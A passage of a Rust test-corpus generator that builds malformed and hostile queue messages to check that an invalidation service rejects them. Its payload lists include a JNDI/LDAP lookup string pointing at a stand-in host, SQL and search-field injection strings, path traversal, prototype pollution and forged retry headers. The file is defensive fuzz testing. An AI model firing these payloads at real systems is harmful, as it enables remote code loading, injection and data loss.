//! The deterministic generator of `generated.jsonl` (the hostile corpus's
//! generated part). Same seed, same file: a test checks the committed file
//! is this function's output; `HOSTILE_CORPUS_BLESS=1` rewrites it.
//!
//! Every generated message breaks one thing on one consumed queue — the two
//! request lanes, the partition queue, the retry-ready queue and each source
//! queue — so its expected end follows from that one defect (SPEC §4, §6,
//! §11). Times are absolute (the year 2100, the year 2001, `i64::MAX`…), so
//! the file never goes stale; a case that must be accepted carries no
//! `invalidationTime` at all.

use std::collections::BTreeMap;

use serde_json::{json, Value};

use super::corpus::{to_hex, Case, Expect, Repeat};

/// The seed: "HOSTILE" in ASCII.
pub const SEED: u64 = 0x0048_4f53_5449_4c45;

/// Routing keys the topology binds to each lane (`topology/fleet.toml`).
pub const FAST_KEYS: &[&str] = &[
    "price",
    "stock",
    "inventory",
    "immediately",
    "campaign",
    "promotion",
];
pub const BULK_KEYS: &[&str] = &[
    "assortment",
    "brand_category",
    "supplier",
    "tag",
    "label",
    "content_score",
    "rating_score",
    "fit_ratio",
    "product",
    "content",
    "translation",
];
const INDEX_KEYS: &[&str] = &["trTR", "deDE", "enAT", "enBE", "enBG", "enHR", "enCZ"];
const SOURCES: &[&str] = &[
    "price",
    "stock",
    "promotion",
    "assortment",
    "product",
    "translation",
];

/// Over the default `worker.max_body_bytes` (1 MiB).
const OVERSIZED: usize = 1024 * 1024 + 4096;
/// The year 2100 (always in the future).
const FUTURE: i64 = 4_102_444_800_000;
/// The year 2001 (always long past any retry window).
const PAST: i64 = 1_000_000_000_000;
/// Accepted cases name content ids from here up, 100 per case.
const ACCEPTED_IDS: i64 = 70_000_000;

/// splitmix64: tiny, and its output never changes with a crate version.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// In `0..n`.
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
    pub fn pick_owned<T: Clone>(&mut self, items: &[T]) -> T {
        self.pick(items).clone()
    }
    pub fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + (self.next() % (hi - lo) as u64) as i64
    }
}

fn upper(key: &str) -> String {
    key.to_ascii_uppercase()
}

fn snake_key(k: &str) -> String {
    format!("{}_{}", &k[..2], k[2..].to_ascii_lowercase())
}

/// The outbound queue of a type (routing-key spelling) and index key.
fn outbound(rk: &str, key: &str) -> String {
    format!("productcontent_{rk}_{}", snake_key(key))
}

/// A message under construction.
struct Msg {
    about: String,
    exchange: String,
    routing_key: String,
    headers: BTreeMap<String, Value>,
    body: Body,
    expect: Expect,
}

enum Body {
    Bytes(Vec<u8>),
    Repeat(Repeat),
}

fn text(v: &Value) -> Body {
    // `unwrap`: JSON values serialise.
    Body::Bytes(serde_json::to_vec(v).unwrap())
}

fn raw(s: impl Into<Vec<u8>>) -> Body {
    Body::Bytes(s.into())
}

/// Where a generated message goes and how it is refused there.
#[derive(Clone)]
struct Target {
    exchange: String,
    routing_key: String,
    /// The dead-letter queue of the consuming queue.
    dlq: String,
}

impl Target {
    fn dead(&self, class: &str) -> Expect {
        Expect::DeadLetter {
            queue: self.dlq.clone(),
            class: class.into(),
        }
    }
}

/// Generates the corpus's generated part.
pub fn generate() -> Vec<Case> {
    let mut g = Gen {
        rng: Rng::new(SEED),
        out: Vec::new(),
        accepted: 0,
    };
    for lane in ["fast", "bulk"] {
        let keys = if lane == "fast" { FAST_KEYS } else { BULK_KEYS };
        for round in 0..170 {
            let rk = *g.rng.pick(keys);
            // Mostly through the request exchange; sometimes straight to the
            // lane through the default exchange, as a careless producer might.
            let target = if round % 5 == 4 {
                Target {
                    exchange: String::new(),
                    routing_key: format!("invalidation.requests.{lane}"),
                    dlq: format!("invalidation.requests.{lane}.dlq"),
                }
            } else {
                Target {
                    exchange: "invalidation.requests".into(),
                    routing_key: rk.into(),
                    dlq: format!("invalidation.requests.{lane}.dlq"),
                }
            };
            let m = g.request_case(round, rk, &target);
            g.push(lane, m);
        }
    }
    for round in 0..120 {
        let m = g.task_case(round);
        g.push("partitions", m);
    }
    for round in 0..160 {
        let m = g.retry_case(round);
        g.push("retry", m);
    }
    for source in SOURCES {
        for round in 0..55 {
            let m = g.source_case(round, source);
            g.push(&format!("source-{source}"), m);
        }
    }
    for round in 0..44 {
        let m = g.unroutable_case(round);
        g.push("unroutable", m);
    }
    g.out
}

struct Gen {
    rng: Rng,
    out: Vec<Case>,
    /// Accepted cases so far (each gets its own content ids).
    accepted: i64,
}

impl Gen {
    fn push(&mut self, prefix: &str, m: Msg) {
        let id = format!("gen-{prefix}-{:04}", self.out.len());
        let (body, body_hex, body_repeat) = match m.body {
            Body::Bytes(b) => match String::from_utf8(b) {
                Ok(s) => (Some(s), None, None),
                Err(e) => (None, Some(to_hex(e.as_bytes())), None),
            },
            Body::Repeat(r) => (None, None, Some(r)),
        };
        self.out.push(Case {
            id,
            about: m.about,
            exchange: m.exchange,
            routing_key: m.routing_key,
            headers: m.headers,
            body,
            body_hex,
            body_repeat,
            expect: m.expect,
        });
    }

    /// Fresh content ids for an accepted case.
    fn fresh_ids(&mut self, n: usize) -> Vec<i64> {
        let base = ACCEPTED_IDS + self.accepted * 100;
        self.accepted += 1;
        (0..n as i64).map(|i| base + i).collect()
    }

    fn ids(&mut self) -> Vec<i64> {
        let n = 1 + self.rng.below(4);
        (0..n).map(|_| self.rng.range(1, 8000)).collect()
    }

    /// A request that passes validation and needs no search.
    fn valid_request(&mut self, rk: &str) -> Value {
        let key = *self.rng.pick(INDEX_KEYS);
        json!({
            "v": 1,
            "requestId": format!("hostile-{}", self.rng.next() % 1_000_000),
            "parameterIds": self.ids(),
            "parameterName": "id",
            "invalidationType": upper(rk),
            "indexKeys": [key],
        })
    }

    fn request_case(&mut self, round: usize, rk: &str, t: &Target) -> Msg {
        let base = self.valid_request(rk);
        let kinds = 16;
        let (about, body, expect, headers) = match round % kinds {
            0 => {
                let b = serde_json::to_vec(&base).unwrap();
                let cut = 1 + self.rng.below(b.len() - 1);
                (
                    format!("truncated after {cut} bytes"),
                    raw(b[..cut].to_vec()),
                    t.dead("malformed_json"),
                    None,
                )
            }
            1 => {
                let s = serde_json::to_string(&base).unwrap();
                let broken = match self.rng.below(8) {
                    0 => s.replacen(':', "=", 1),
                    1 => s.replace('"', "'"),
                    2 => format!("{s}}}"),
                    3 => format!("{s} trailing"),
                    4 => s.replacen(',', "", 1),
                    5 => format!("/* comment */{s}"),
                    6 => s.replacen("\"v\":1", "\"v\":NaN", 1),
                    _ => format!("{s},{s}"),
                };
                (
                    "broken JSON syntax".into(),
                    raw(broken),
                    t.dead("malformed_json"),
                    None,
                )
            }
            2 => {
                // Invalid UTF-8 inside a string, in a known or unknown field.
                let bad: &[&[u8]] = &[
                    b"\xff",
                    b"\xc3\x28",
                    b"\xed\xa0\x80",
                    b"\xf8\x88\x80\x80\x80",
                    b"\xe2\x82",
                    b"\xc0\xaf",
                ];
                let seq = *self.rng.pick(bad);
                let field = *self.rng.pick(&["requestId", "note", "parameterName"]);
                let mut v = base.clone();
                v[field] = json!("@@");
                let s = serde_json::to_vec(&v).unwrap();
                let at = s.windows(2).position(|w| w == b"@@").unwrap();
                let mut b = s[..at].to_vec();
                b.extend_from_slice(seq);
                b.extend_from_slice(&s[at + 2..]);
                (
                    format!("invalid UTF-8 in {field}"),
                    raw(b),
                    t.dead("malformed_json"),
                    None,
                )
            }
            3 => {
                let wrong: &[(&str, Value)] = &[
                    ("parameterIds", json!("1,2,3")),
                    ("parameterIds", json!({"0": 1})),
                    ("parameterIds", json!([true])),
                    ("parameterIds", json!([1.5])),
                    ("parameterIds", json!(["7"])),
                    ("parameterIds", json!([null])),
                    ("parameterIds", json!(null)),
                    ("parameterIds", json!([[1]])),
                    ("parameterName", json!(5)),
                    ("parameterName", json!(["id"])),
                    ("parameterName", json!(null)),
                    ("invalidationType", json!(11)),
                    ("invalidationType", json!(["PRICE"])),
                    ("invalidationType", json!(null)),
                    ("indexKeys", json!("trTR")),
                    ("indexKeys", json!([1])),
                    ("indexKeys", json!({"trTR": true})),
                    ("invalidationTime", json!("2026-01-01T00:00:00Z")),
                    ("invalidationTime", json!(1.5)),
                    ("invalidationTime", json!(true)),
                    ("invalidationTime", json!({})),
                    ("isNestedType", json!("yes")),
                    ("isNestedType", json!(1)),
                    ("nestedPathName", json!(5)),
                    ("requestId", json!(42)),
                    ("requestId", json!(["a"])),
                    ("v", json!("1")),
                    ("v", json!(1.5)),
                    ("v", json!(-1)),
                ];
                let (field, value) = self.rng.pick(wrong).clone();
                let mut v = base.clone();
                v[field] = value.clone();
                (
                    format!("wrong type: {field} = {value}"),
                    text(&v),
                    t.dead("invalid_message"),
                    None,
                )
            }
            4 => {
                let missing =
                    *self
                        .rng
                        .pick(&["parameterIds", "parameterName", "invalidationType"]);
                let mut v = base.clone();
                v.as_object_mut().unwrap().remove(missing);
                (
                    format!("required field {missing} missing"),
                    text(&v),
                    t.dead("invalid_message"),
                    None,
                )
            }
            5 => {
                // Deep nesting. In a field the decoder ignores it is skipped
                // without recursion (tolerated); where a value is built it is
                // the wrong type (an array of arrays), or past serde_json's
                // recursion limit (128), which is not JSON any reader takes.
                let depth = 129 + self.rng.below(20_000);
                let field = *self.rng.pick(&["nested", "parameterIds", "v"]);
                let s = serde_json::to_string(&base).unwrap();
                let body = Body::Repeat(Repeat {
                    prefix: format!("{{\"{field}\":"),
                    unit: "[".into(),
                    times: depth,
                    suffix: format!("{}}}", "]".repeat(depth) + "," + &s[1..s.len() - 1]),
                });
                let expect = match field {
                    "nested" => Expect::Accepted {
                        queue: None,
                        ids: vec![],
                    },
                    "parameterIds" => t.dead("invalid_message"),
                    _ => t.dead("malformed_json"),
                };
                (
                    format!("{field} nested {depth} arrays deep"),
                    body,
                    expect,
                    None,
                )
            }
            6 => {
                let n = 10_001 + self.rng.below(50_000);
                let s = serde_json::to_string(&base).unwrap();
                let rest = s.replacen("\"parameterIds\":", "\"_old\":", 1);
                let body = Body::Repeat(Repeat {
                    prefix: "{\"parameterIds\":[".into(),
                    unit: "4242,".into(),
                    times: n - 1,
                    suffix: format!("4242],{}", &rest[1..]),
                });
                (
                    format!("{n} parameterIds, over dispatcher.max_ids"),
                    body,
                    t.dead("too_many_ids"),
                    None,
                )
            }
            7 => {
                let s = serde_json::to_string(&base).unwrap();
                let body = Body::Repeat(Repeat {
                    prefix: format!("{},\"padding\":\"", &s[..s.len() - 1]),
                    unit: "x".into(),
                    times: OVERSIZED + self.rng.below(100_000),
                    suffix: "\"}".into(),
                });
                (
                    "valid request padded over worker.max_body_bytes".into(),
                    body,
                    t.dead("body_too_large"),
                    None,
                )
            }
            8 => {
                // Tolerated: unknown fields are ignored (SPEC §4).
                let n = 1 + self.rng.below(3);
                let ids = self.fresh_ids(n);
                let key = *self.rng.pick(INDEX_KEYS);
                let unknown: &[(&str, Value)] = &[
                    ("__proto__", json!({"admin": true})),
                    ("constructor", json!({"prototype": {}})),
                    ("$where", json!("sleep(1000)")),
                    ("query", json!({"match_all": {}})),
                    ("script", json!({"source": "ctx._source.clear()"})),
                    ("size", json!(1_000_000_000)),
                    ("parameterIDs", json!([1, 2, 3])),
                    ("someNewField", json!({"x": [1, 2, {"y": null}]})),
                    ("nested", json!([[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]])),
                    ("bigNumber", json!(1e300)),
                    ("unicode", json!("\u{202e}\u{0000}\u{feff}\u{1f4a3}")),
                ];
                let (field, value) = self.rng.pick(unknown).clone();
                let mut v = json!({
                    "parameterIds": ids,
                    "parameterName": "id",
                    "invalidationType": upper(rk),
                    "indexKeys": [key],
                });
                v[field] = value;
                (
                    format!("unknown field {field:?} is ignored"),
                    text(&v),
                    Expect::Accepted {
                        queue: Some(outbound(rk, key)),
                        ids,
                    },
                    None,
                )
            }
            9 => {
                let unknown = *self.rng.pick(&[
                    "REFUND",
                    "price",
                    "Price",
                    "PRICE ",
                    "",
                    "PRICE\u{0000}",
                    "DROP TABLE",
                    "ΡRICE",
                ]);
                let mut v = base.clone();
                v["invalidationType"] = json!(unknown);
                (
                    format!("unknown invalidationType {unknown:?}"),
                    text(&v),
                    t.dead("unknown_type"),
                    None,
                )
            }
            10 => {
                let unknown = *self.rng.pick(&[
                    "trtr", "TRTR", "xxXX", "tr_TR", "", "trTR ", "frFR", "enUS", "*",
                ]);
                let mut v = base.clone();
                v["indexKeys"] = json!(["deDE", unknown]);
                (
                    format!("unknown index key {unknown:?}"),
                    text(&v),
                    t.dead("unknown_index_key"),
                    None,
                )
            }
            11 => {
                let injection = *self.rng.pick(&[
                    "brand.id\" OR 1=1 --",
                    "brand.id^100",
                    "*",
                    "brand.*",
                    "_id",
                    "_source",
                    "listings",
                    "ID",
                    "Brand.Id",
                    "brand.id ",
                    " id",
                    "id\u{0000}",
                    "brand.id\u{0000}.x",
                    "../../_cluster/settings",
                    "{\"match_all\":{}}",
                    "script.source",
                    "searchPartition",
                    "price.amount",
                    "listings.id.keyword",
                    "brand.id,category.id",
                    "\u{202e}di.dnarb",
                    "${jndi:ldap://evil/x}",
                ]);
                let mut v = base.clone();
                v["parameterName"] = json!(injection);
                (
                    format!("parameterName injection {injection:?}"),
                    text(&v),
                    t.dead("forbidden_field"),
                    None,
                )
            }
            12 => {
                let (about, value, class): (&str, Value, &str) = self.rng.pick_owned(&[
                    ("the year 2100", json!(FUTURE), "bad_invalidation_time"),
                    (
                        "the year 9999",
                        json!(253_402_300_799_000i64),
                        "bad_invalidation_time",
                    ),
                    ("i64::MAX", json!(i64::MAX), "bad_invalidation_time"),
                    ("i64::MIN", json!(i64::MIN), "bad_invalidation_time"),
                    ("-1", json!(-1), "bad_invalidation_time"),
                    ("0", json!(0), "bad_invalidation_time"),
                    (
                        "seconds, not ms",
                        json!(1_763_856_000i64),
                        "bad_invalidation_time",
                    ),
                    ("the year 2001", json!(PAST), "bad_invalidation_time"),
                    (
                        "over i64",
                        json!(9_223_372_036_854_775_808u64),
                        "invalid_message",
                    ),
                    ("u64::MAX", json!(u64::MAX), "invalid_message"),
                    ("1e20", json!(1e20), "invalid_message"),
                    ("-1e300", json!(-1e300), "invalid_message"),
                ]);
                let mut v = base.clone();
                v["invalidationTime"] = value;
                (
                    format!("bogus invalidationTime: {about}"),
                    text(&v),
                    t.dead(class),
                    None,
                )
            }
            13 => {
                // Spoofed fleet-only headers on a valid request: ignored, done.
                let ids = self.fresh_ids(2);
                let key = *self.rng.pick(INDEX_KEYS);
                let v = json!({
                    "parameterIds": ids,
                    "parameterName": "id",
                    "invalidationType": upper(rk),
                    "indexKeys": [key],
                });
                (
                    "spoofed fleet-only headers on a valid request are not acted on".into(),
                    text(&v),
                    Expect::Accepted {
                        queue: Some(outbound(rk, key)),
                        ids,
                    },
                    Some(self.spoofed_headers()),
                )
            }
            14 => {
                // Spoofed headers on a bad request: the diagnosis is the fleet's.
                let mut v = base.clone();
                v["parameterName"] = json!("price.amount");
                (
                    "spoofed headers on a forbidden field: the fleet's own diagnosis wins".into(),
                    text(&v),
                    t.dead("forbidden_field"),
                    Some(self.spoofed_headers()),
                )
            }
            _ => {
                let (about, body, class): (&str, Body, &str) = match self.rng.below(9) {
                    0 => ("empty body", raw(""), "malformed_json"),
                    1 => ("JSON null", raw("null"), "invalid_message"),
                    2 => ("a JSON array", raw("[]"), "invalid_message"),
                    3 => ("a JSON string", raw("\"PRICE\""), "invalid_message"),
                    4 => ("a JSON number", raw("1763856000000"), "invalid_message"),
                    5 => (
                        "empty parameterIds",
                        {
                            let mut v = base.clone();
                            v["parameterIds"] = json!([]);
                            text(&v)
                        },
                        "empty_ids",
                    ),
                    6 => (
                        "version 2",
                        {
                            let mut v = base.clone();
                            v["v"] = json!(2);
                            text(&v)
                        },
                        "unsupported_version",
                    ),
                    7 => (
                        "duplicate parameterIds key",
                        {
                            let s = serde_json::to_string(&base).unwrap();
                            raw(format!("{{\"parameterIds\":[1],{}", &s[1..]))
                        },
                        "invalid_message",
                    ),
                    _ => (
                        "UTF-8 byte order mark",
                        {
                            let mut b = b"\xef\xbb\xbf".to_vec();
                            b.extend(serde_json::to_vec(&base).unwrap());
                            raw(b)
                        },
                        "malformed_json",
                    ),
                };
                (about.into(), body, t.dead(class), None)
            }
        };
        Msg {
            about,
            exchange: t.exchange.clone(),
            routing_key: t.routing_key.clone(),
            headers: headers.unwrap_or_default(),
            body,
            expect,
        }
    }

    /// What a hostile producer sets to steer retries or fake a diagnosis.
    fn spoofed_headers(&mut self) -> BTreeMap<String, Value> {
        let all: Vec<(&str, Value)> = vec![
            ("x-original-exchange", json!("content.invalidations")),
            ("x-original-routing-key", json!("price.tr_tr")),
            ("x-original-queue", json!("productcontent_price_tr_tr")),
            ("x-retry-attempts", json!(self.rng.range(-5, 1_000_000))),
            ("x-first-failure-time", json!(1)),
            ("x-error-class", json!("forged_class")),
            ("x-error-message", json!("forged message")),
            ("x-park-reason", json!("forged park reason")),
            ("x-history", json!("not an array")),
            (
                "x-death",
                json!([{"count": 99, "reason": "rejected", "queue": "invalidation.requests.fast",
                         "exchange": "content.invalidations", "routing-keys": ["price.tr_tr"]}]),
            ),
            ("x-first-death-exchange", json!("content.invalidations")),
            ("x-window-start", json!("not a number")),
            ("x-replay-count", json!(-1)),
        ];
        let mut out = BTreeMap::new();
        let n = 3 + self.rng.below(all.len() - 3);
        for _ in 0..n {
            let (k, v) = self.rng.pick(&all).clone();
            out.insert(k.to_string(), v);
        }
        out
    }

    fn valid_task(&mut self) -> Value {
        let job = format!(
            "{:08x}-0000-4000-8000-{:012x}",
            self.rng.next() as u32,
            self.rng.next() & 0xffff_ffff_ffff
        );
        let task_no = self.rng.below(10);
        let request = format!("forged-{}", self.rng.next() % 100_000);
        let rk = self.rng.pick_owned(FAST_KEYS);
        json!({
            "v": 1,
            "jobId": job,
            "taskNo": task_no,
            "requestId": request,
            "invalidationType": upper(rk),
            "indexKey": *self.rng.pick(INDEX_KEYS),
            "parameterName": "brand.id",
            "parameterIds": [1],
            "partitionFrom": 0,
            "partitionTo": 1000,
            "invalidationTime": 1_763_856_000_000i64,
        })
    }

    fn task_case(&mut self, round: usize) -> Msg {
        let t = Target {
            exchange: "invalidation.partitions".into(),
            routing_key: "task".into(),
            dlq: "invalidation.partitions.dlq".into(),
        };
        let base = self.valid_task();
        let (about, body, expect): (String, Body, Expect) = match round % 10 {
            0 => {
                let b = serde_json::to_vec(&base).unwrap();
                let cut = 1 + self.rng.below(b.len() - 1);
                (
                    format!("truncated after {cut} bytes"),
                    raw(b[..cut].to_vec()),
                    t.dead("malformed_json"),
                )
            }
            1 => {
                let wrong: &[(&str, Value)] = &[
                    ("jobId", json!("not-a-uuid")),
                    ("jobId", json!(7)),
                    ("taskNo", json!("1")),
                    ("taskNo", json!(4_294_967_296i64)),
                    ("partitionFrom", json!("0")),
                    ("partitionTo", json!(1.5)),
                    ("parameterIds", json!("1")),
                    ("invalidationTime", json!(null)),
                    ("indexKey", json!(["trTR"])),
                ];
                let (field, value) = self.rng.pick(wrong).clone();
                let mut v = base.clone();
                v[field] = value.clone();
                (
                    format!("wrong type: {field} = {value}"),
                    text(&v),
                    t.dead("invalid_message"),
                )
            }
            2 => {
                let missing = *self.rng.pick(&[
                    "jobId",
                    "taskNo",
                    "requestId",
                    "parameterIds",
                    "invalidationTime",
                ]);
                let mut v = base.clone();
                v.as_object_mut().unwrap().remove(missing);
                (
                    format!("required field {missing} missing"),
                    text(&v),
                    t.dead("invalid_message"),
                )
            }
            3 | 4 => (
                "a well-formed task of a job that does not exist".into(),
                text(&base),
                t.dead("invalid_job"),
            ),
            5 => {
                let mut v = base.clone();
                v["parameterName"] = json!(*self.rng.pick(&["price.amount", "_id", "*", "script"]));
                (
                    "a task of an unknown job with a forbidden field".into(),
                    text(&v),
                    t.dead("invalid_job"),
                )
            }
            6 => {
                let mut v = base.clone();
                v["v"] = json!(self.rng.range(2, 1000));
                (
                    format!("version {}", v["v"]),
                    text(&v),
                    t.dead("unsupported_version"),
                )
            }
            7 => {
                let mut v = base.clone();
                v["indexKey"] = json!(*self.rng.pick(&["xxXX", "trtr", ""]));
                (
                    format!("unknown index key {}", v["indexKey"]),
                    text(&v),
                    t.dead("unknown_index_key"),
                )
            }
            8 => {
                let s = serde_json::to_string(&base).unwrap();
                (
                    "task padded over worker.max_body_bytes".into(),
                    Body::Repeat(Repeat {
                        prefix: format!("{},\"padding\":[", &s[..s.len() - 1]),
                        unit: "0,".into(),
                        times: OVERSIZED / 2,
                        suffix: "0]}".into(),
                    }),
                    t.dead("body_too_large"),
                )
            }
            _ => {
                let (about, body, class): (&str, Body, &str) = match self.rng.below(4) {
                    0 => ("empty body", raw(""), "malformed_json"),
                    1 => ("a JSON array", raw("[1,2,3]"), "invalid_message"),
                    2 => (
                        "invalid UTF-8",
                        raw(b"{\"jobId\":\"\xff\xfe\"}".to_vec()),
                        "malformed_json",
                    ),
                    // Skipped without recursion; then the task's fields are missing.
                    _ => (
                        "deep nesting in an unknown field",
                        Body::Repeat(Repeat {
                            prefix: String::new(),
                            unit: "{\"a\":".into(),
                            times: 5000,
                            suffix: "1".to_string() + &"}".repeat(5000),
                        }),
                        "invalid_message",
                    ),
                };
                (about.into(), body, t.dead(class))
            }
        };
        Msg {
            about,
            exchange: t.exchange,
            routing_key: t.routing_key,
            headers: BTreeMap::new(),
            body,
            expect,
        }
    }

    /// A message on the retry-ready queue: the retry handler believes its
    /// headers (the queue is fleet-fed), so what it may do with them is
    /// what the topology allows.
    fn retry_case(&mut self, round: usize) -> Msg {
        let ready = Target {
            exchange: "invalidation.retry".into(),
            routing_key: "ready".into(),
            dlq: "invalidation.retry.ready.dlq".into(),
        };
        let origin = |exchange: &str, key: &str| {
            let mut h = BTreeMap::new();
            h.insert("x-original-exchange".to_string(), json!(exchange));
            h.insert("x-original-routing-key".to_string(), json!(key));
            h.insert("x-retry-attempts".to_string(), json!(1));
            h.insert("x-error-class".to_string(), json!("search_unavailable"));
            h
        };
        let rk = *self.rng.pick(FAST_KEYS);
        let base = self.valid_request(rk);
        let (about, headers, body, expect): (String, BTreeMap<String, Value>, Body, Expect) =
            match round % 10 {
                0 => {
                    let mut h = origin("invalidation.requests", rk);
                    match self.rng.below(3) {
                        0 => {
                            h.remove("x-original-exchange");
                        }
                        1 => {
                            h.remove("x-original-routing-key");
                        }
                        _ => h.clear(),
                    }
                    (
                        "no origin headers".into(),
                        h,
                        text(&base),
                        ready.dead("missing_origin"),
                    )
                }
                1 | 2 => {
                    let (exchange, key) = *self.rng.pick(&[
                        ("content.invalidations", "price.tr_tr"),
                        ("", "productcontent_price_tr_tr"),
                        ("invalidation.events", "job.completed"),
                        ("invalidation.parked", ""),
                        ("invalidation.dlx", "invalidation.requests.fast"),
                        ("invalidation.retry", "ready"),
                        ("invalidation.retry", "delay"),
                        ("invalidation.requests", "refund"),
                        ("invalidation.requests", "#"),
                        ("", "invalidation.retry.ready"),
                        ("", "invalidation.parked"),
                        ("amq.topic", "price"),
                        ("amq.direct", "invalidation.requests.fast"),
                        ("no.such.exchange", "price"),
                        ("invalidation.requests", "price\u{0000}"),
                        ("invalidation.requests\u{0000}", "price"),
                    ]);
                    if exchange == "invalidation.requests" && (key == "refund" || key == "#") {
                        // A key no lane binds, on the request exchange: its
                        // alternate exchange takes it to the unroutable
                        // queue, whose consumer re-routes it by its type.
                        let (body, then) = self.accepted_request(rk);
                        (
                            format!("sent back to {exchange:?} / {key:?}, which no lane binds"),
                            origin(exchange, key),
                            text(&body),
                            Expect::Rerouted {
                                key: rk.into(),
                                then: Box::new(then),
                            },
                        )
                    } else {
                        (
                            format!("forbidden destination {exchange:?} / {key:?}"),
                            origin(exchange, key),
                            text(&base),
                            ready.dead("forbidden_destination"),
                        )
                    }
                }
                3 => {
                    // An allowed origin: it goes back, and the lane refuses it.
                    let (exchange, key, lane) = *self.rng.pick(&[
                        ("invalidation.requests", "price", "fast"),
                        ("invalidation.requests", "assortment", "bulk"),
                        ("", "invalidation.requests.fast", "fast"),
                        ("", "invalidation.requests.bulk", "bulk"),
                    ]);
                    (
                        "broken body sent back to an allowed lane".into(),
                        origin(exchange, key),
                        raw("{\"parameterIds\":[1,"),
                        Expect::DeadLetter {
                            queue: format!("invalidation.requests.{lane}.dlq"),
                            class: "malformed_json".into(),
                        },
                    )
                }
                4 => {
                    let mut v = base.clone();
                    v["invalidationTime"] = json!(PAST);
                    (
                        "invalidationTime long past the retry window".into(),
                        origin("invalidation.requests", rk),
                        text(&v),
                        Expect::Parked {
                            reason: "retry_window_exceeded".into(),
                        },
                    )
                }
                5 => {
                    let mut h = origin("invalidation.requests", rk);
                    let attempts = self.rng.range(20, i64::MAX);
                    h.insert("x-retry-attempts".into(), json!(attempts));
                    (
                        format!("attempts {attempts}, at or over the default cap"),
                        h,
                        text(&base),
                        Expect::Parked {
                            reason: "max_attempts_reached".into(),
                        },
                    )
                }
                6 => {
                    let mut h = origin("invalidation.requests", rk);
                    h.insert("x-first-failure-time".into(), json!(PAST));
                    let mut v = base.clone();
                    v.as_object_mut().unwrap().remove("invalidationTime");
                    (
                        "no invalidationTime; first failure long past the window".into(),
                        h,
                        text(&v),
                        Expect::Parked {
                            reason: "retry_window_exceeded".into(),
                        },
                    )
                }
                7 => {
                    // A window that starts in the future: never ages on the
                    // retry path, so the lane must refuse it.
                    let mut h = origin("invalidation.requests", rk);
                    h.insert("x-window-start".into(), json!(FUTURE));
                    (
                        "x-window-start in the year 2100".into(),
                        h,
                        text(&base),
                        Expect::DeadLetter {
                            queue: "invalidation.requests.fast.dlq".into(),
                            class: "bad_invalidation_time".into(),
                        },
                    )
                }
                8 => {
                    // Garbage counters are not numbers: it goes back once.
                    let ids = self.fresh_ids(2);
                    let key = *self.rng.pick(INDEX_KEYS);
                    let mut h = origin("invalidation.requests", rk);
                    let junk = self.rng.pick_owned(&[
                        json!("lots"),
                        json!(-7),
                        json!(""),
                        json!([1, 2]),
                        json!({"n": 1}),
                        json!(1.0e300),
                    ]);
                    h.insert("x-retry-attempts".into(), junk.clone());
                    h.insert("x-first-failure-time".into(), json!("yesterday"));
                    let v = json!({
                        "parameterIds": ids,
                        "parameterName": "id",
                        "invalidationType": upper(rk),
                        "indexKeys": [key],
                    });
                    (
                        format!(
                            "garbage counters ({junk}) on a good request: sent back once, done"
                        ),
                        h,
                        text(&v),
                        Expect::Accepted {
                            queue: Some(outbound(rk, key)),
                            ids,
                        },
                    )
                }
                _ => {
                    let (about, body, expect) = match self.rng.below(3) {
                        0 => (
                            "oversized body on the retry-ready queue",
                            Body::Repeat(Repeat {
                                prefix: "{\"padding\":\"".into(),
                                unit: "y".into(),
                                times: OVERSIZED,
                                suffix: "\"}".into(),
                            }),
                            ready.dead("body_too_large"),
                        ),
                        1 => (
                            "broken task sent back to the partition queue",
                            raw("{\"jobId\":"),
                            Expect::DeadLetter {
                                queue: "invalidation.partitions.dlq".into(),
                                class: "malformed_json".into(),
                            },
                        ),
                        _ => (
                            "broken event sent back to a source queue",
                            raw("{\"contentId\":[}"),
                            Expect::DeadLetter {
                                queue: "source.product.dlq".into(),
                                class: "malformed_json".into(),
                            },
                        ),
                    };
                    let h = match about {
                        a if a.contains("partition") => origin("invalidation.partitions", "task"),
                        a if a.contains("source") => origin("source.product", ""),
                        _ => origin("invalidation.requests", rk),
                    };
                    (about.into(), h, body, expect)
                }
            };
        Msg {
            about,
            exchange: ready.exchange,
            routing_key: ready.routing_key,
            headers,
            body,
            expect,
        }
    }

    fn valid_event(&mut self, source: &str) -> Value {
        let key = *self.rng.pick(INDEX_KEYS);
        let id = self.rng.range(1, 8000);
        match source {
            "price" => json!({"contentId": id, "indexKeys": [key]}),
            "stock" => json!({"contentId": id, "event": "created", "indexKeys": [key]}),
            "promotion" => json!({"contentIds": [id], "promotionId": 3, "indexKeys": [key]}),
            "assortment" => json!({"brandId": 40, "country": "DE"}),
            "product" => json!({"contentIds": [id], "indexKeys": [key]}),
            _ => json!({"contentId": id, "language": "de"}),
        }
    }

    fn source_case(&mut self, round: usize, source: &str) -> Msg {
        let t = Target {
            exchange: format!("source.{source}"),
            routing_key: String::new(),
            dlq: format!("source.{source}.dlq"),
        };
        let base = self.valid_event(source);
        let (about, body, expect, headers): (
            String,
            Body,
            Expect,
            Option<BTreeMap<String, Value>>,
        ) = match round % 11 {
            0 => {
                let b = serde_json::to_vec(&base).unwrap();
                let cut = 1 + self.rng.below(b.len() - 1);
                (
                    format!("truncated after {cut} bytes"),
                    raw(b[..cut].to_vec()),
                    t.dead("malformed_json"),
                    None,
                )
            }
            1 => {
                let wrong: &[(&str, Value)] = &[
                    ("contentId", json!("1")),
                    ("contentId", json!(1.5)),
                    ("contentIds", json!("1,2")),
                    ("contentIds", json!([{"id": 1}])),
                    ("listingId", json!([7])),
                    ("scheduled", json!("yes")),
                    ("event", json!(5)),
                    ("quantity", json!("3")),
                    ("brandId", json!([])),
                    ("categoryId", json!(true)),
                    ("country", json!(49)),
                    ("language", json!({"code": "de"})),
                    ("indexKeys", json!("trTR")),
                    ("eventTime", json!("now")),
                    ("eventTime", json!(9_223_372_036_854_775_808u64)),
                ];
                let (field, value) = self.rng.pick(wrong).clone();
                let mut v = base.clone();
                v[field] = value.clone();
                (
